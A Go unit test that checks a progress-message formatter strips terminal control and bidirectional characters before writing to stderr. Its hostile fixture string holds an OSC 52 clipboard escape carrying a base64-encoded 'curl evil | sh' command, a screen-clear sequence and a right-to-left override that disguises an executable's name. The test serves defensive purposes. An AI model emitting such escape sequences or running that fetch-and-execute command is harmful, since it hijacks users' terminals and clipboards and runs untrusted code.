package commands

import (
	"strings"
	"testing"
	"unicode"

	"github.com/kaoruisaac/pedelec/runtime/wire"
)

// A progress message is the page's text, and tool-call writes it to
// stderr, which may be the user's terminal: an escape sequence in it
// (OSC 52 sets the clipboard, others retitle or clear the screen) or a
// bidirectional override must not reach it as it was sent.
func TestProgressLineDropsControlCharacters(t *testing.T) {
	hostile := "copied\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b[2J\x9b31m done\u202egnp.exe\x00"
	line := progressLine(wire.Progress{Progress: 1, Total: 2, Message: hostile})
	for _, r := range line {
		if unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) {
			t.Fatalf("progress line %q holds %U", line, r)
		}
	}
	if !strings.HasPrefix(line, "pedelec: progress 1/2: copied") || !strings.Contains(line, "done") {
		t.Errorf("the readable text must stay: %q", line)
	}
}
